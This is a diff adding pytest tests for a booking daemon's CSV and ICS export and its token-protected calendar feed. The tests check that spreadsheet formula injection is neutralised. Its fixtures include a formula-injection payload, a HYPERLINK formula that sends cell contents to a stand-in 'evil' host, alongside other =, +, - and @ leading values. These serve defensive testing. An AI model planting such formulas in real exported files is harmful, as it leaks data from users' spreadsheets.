@@ -1,5 +1,7 @@
 """Operations (issue 12): BOOKINGD_LOG_FORMAT, graceful shutdown, backup and
 restore, export and the host's calendar feed."""
+import csv
+import io
 import json
 import signal
 import socket
@@ -7,10 +9,13 @@ import sqlite3
 import subprocess
 import threading
 import time
+import urllib.parse
 
+import icalendar
 import pytest
 
-from conftest import Daemon, parse_raw_response, standard_catalog
+from conftest import (Daemon, assert_error, parse_instant, parse_raw_response,
+                      standard_catalog)
 
 
 # ---- BOOKINGD_LOG_FORMAT -----------------------------------------------------
@@ -355,3 +360,169 @@ def test_backup_on_postgresql_points_to_pg_dump(daemon, tmp_path):
         assert p.returncode == 1, p
         assert tool in p.stderr and p.stderr.count("\n") == 1, p.stderr
     assert not (tmp_path / "x.db").exists()
+
+
+# ---- export and the calendar feed --------------------------------------------
+
+HOSTILE_NOTES = '=HYPERLINK("http://evil/?"&A1,"click"), "quoted"; semi\\back\nline two'
+HOSTILE_NAME = '+SUM(1,2) "Quote" Mc;Name, Jr.'
+
+
+def book_hostile(app):
+    starts = app.slot_starts("intro")
+    a = app.book("intro", starts[0], email="-minus@example.com",
+                 name=HOSTILE_NAME, notes=HOSTILE_NOTES).json
+    b = app.book("intro", starts[1], email="plain@example.com",
+                 name="@at Plain").json
+    c = app.book("intro", starts[2], email="gone@example.com",
+                 name="Gone").json
+    r = app.post(f"/api/v1/bookings/{c['uid']}/cancel", {"reason": "=1+1"},
+                 admin=True)
+    assert r.status == 200, r
+    return a, b, c
+
+
+def parse_csv(text):
+    assert text.endswith("\r\n"), text[-20:]
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    header = rows[0]
+    return [dict(zip(header, r)) for r in rows[1:]]
+
+
+def test_export_bookings_csv_defuses_formulas(app):
+    a, b, c = book_hostile(app)
+    p = app.cli("export", "bookings", "--format", "csv")
+    assert p.returncode == 0, p.stderr
+    rows = {r["uid"]: r for r in parse_csv(p.stdout)}
+    assert set(rows) == {a["uid"], b["uid"], c["uid"]}
+    ra = rows[a["uid"]]
+    assert ra["notes"] == "'" + HOSTILE_NOTES
+    assert ra["attendee_name"] == "'" + HOSTILE_NAME
+    assert ra["attendee_email"] == "'-minus@example.com"
+    assert ra["status"] == "confirmed" and ra["event_type"] == "intro"
+    assert ra["host"] == "coach"
+    assert ra["start"] == a["start"].replace("+00:00", "Z") or \
+        ra["start"].endswith("Z")
+    assert rows[b["uid"]]["attendee_name"] == "'@at Plain"
+    assert rows[c["uid"]]["status"] == "cancelled"
+    assert rows[c["uid"]]["cancellation_reason"] == "'=1+1"
+    for r in rows.values():
+        for k, v in r.items():
+            assert not v or v[0] not in "=+-@\t\r", (k, v)
+
+
+def test_export_clients_csv(app):
+    book_hostile(app)
+    p = app.cli("export", "clients", "--format=csv")
+    assert p.returncode == 0, p.stderr
+    rows = parse_csv(p.stdout)
+    emails = {r["email"] for r in rows}
+    assert emails == {"'-minus@example.com", "plain@example.com",
+                      "gone@example.com"}
+    assert all(r["id"].startswith("cli_") for r in rows)
+    # Default format is CSV.
+    assert app.cli("export", "clients").stdout == p.stdout
+
+
+def test_export_bookings_ics_parses(app):
+    a, b, c = book_hostile(app)
+    p = app.cli("export", "bookings", "--format", "ics")
+    assert p.returncode == 0, p.stderr
+    cal = icalendar.Calendar.from_ical(p.stdout)
+    assert str(cal["VERSION"]) == "2.0"
+    events = {str(e["UID"]): e for e in cal.walk("VEVENT")}
+    assert set(events) == {f"{x['uid']}@bookingd" for x in (a, b, c)}
+    ea = events[f"{a['uid']}@bookingd"]
+    assert str(ea["DESCRIPTION"]) == HOSTILE_NOTES
+    assert HOSTILE_NAME in str(ea["SUMMARY"])
+    assert str(ea["STATUS"]) == "CONFIRMED"
+    assert ea["DTSTART"].dt.isoformat().replace("+00:00", "Z") == \
+        parse_instant(a["start"]).isoformat().replace("+00:00", "Z")
+    assert str(events[f"{c['uid']}@bookingd"]["STATUS"]) == "CANCELLED"
+    assert "\r\n" in p.stdout and all(
+        len(line.encode()) <= 75 for line in p.stdout.split("\r\n"))
+
+
+def test_export_of_many_bookings_pages(app):
+    starts = app.slot_starts("intro", span=6)
+    n = min(len(starts), 130)
+    for i in range(n):
+        app.book("intro", starts[i], email=f"m{i}@example.com")
+    p = app.cli("export", "bookings")
+    assert len(parse_csv(p.stdout)) == n
+    p = app.cli("export", "bookings", "--format", "ics")
+    assert len(icalendar.Calendar.from_ical(p.stdout).walk("VEVENT")) == n
+
+
+@pytest.mark.parametrize("args", [[], ["hosts"], ["bookings", "--format"],
+                                  ["bookings", "--format", "xml"],
+                                  ["bookings", "--format", "CSV"],
+                                  ["bookings", "--format", "csv", "--format",
+                                   "ics"],
+                                  ["bookings", "extra"],
+                                  ["clients", "--format", "ics"],
+                                  ["bookings\n", "--format", "csv"],
+                                  ["x" * 5000]])
+def test_export_refuses_bad_arguments(daemon, args):
+    p = daemon.cli("export", *args)
+    assert p.returncode == 2, (args, p)
+    assert p.stdout == ""
+    assert p.stderr.count("\n") == 1, p.stderr
+
+
+def feed_url(app, slug="coach"):
+    r = app.get(f"/api/v1/hosts/{slug}/calendar-feed", admin=True)
+    assert r.status == 200, r
+    url = urllib.parse.urlsplit(r.json["url"])
+    assert url.path == f"/calendar/{slug}.ics"
+    return url.path, dict(urllib.parse.parse_qsl(url.query))
+
+
+def test_calendar_feed(app):
+    a, b, c = book_hostile(app)
+    path, query = feed_url(app)
+    assert len(query["token"]) == 43
+    r = app.get(path, query=query)
+    assert r.status == 200, r
+    assert r.header("Content-Type").startswith("text/calendar")
+    cal = icalendar.Calendar.from_ical(r.body.decode())
+    uids = {str(e["UID"]) for e in cal.walk("VEVENT")}
+    # Cancelled bookings leave the feed.
+    assert uids == {f"{a['uid']}@bookingd", f"{b['uid']}@bookingd"}
+    assert str(cal["X-WR-CALNAME"])
+    ev = [e for e in cal.walk("VEVENT")
+          if str(e["UID"]) == f"{a['uid']}@bookingd"][0]
+    assert str(ev["ORGANIZER"]).startswith("mailto:")
+    assert str(ev["DESCRIPTION"]) == HOSTILE_NOTES
+    # The same URL keeps working after a restart (derived, not random).
+    app.restart()
+    assert app.get(path, query=query).status == 200
+
+
+def test_calendar_feed_refuses_without_its_token(app):
+    path, query = feed_url(app)
+    token = query["token"]
+    other = standard_catalog(host="other")
+    app.apply(other)
+    _, oq = feed_url(app, "other")
+    bad = [
+        (path, {}),
+        (path, {"token": ""}),
+        (path, {"token": token[:-1]}),
+        (path, {"token": token + "A"}),
+        (path, {"token": token.upper()}),
+        (path, {"token": oq["token"]}),  # another host's
+        ("/calendar/nobody.ics", {"token": token}),
+        ("/calendar/coach", {"token": token}),
+        ("/calendar/.ics", {"token": token}),
+        ("/calendar/COACH.ics", {"token": token}),
+        ("/calendar/coach.ics.ics", {"token": token}),
+        ("/calendar/" + "a" * 300 + ".ics", {"token": token}),
+    ]
+    for p, q in bad:
+        r = app.get(p, query=q)
+        assert r.status == 404, (p, q, r)
+        assert_error(r, 404)
+    assert app.get("/api/v1/hosts/coach/calendar-feed").status == 401
+    assert app.get("/api/v1/hosts/nobody/calendar-feed",
+                   admin=True).status == 404
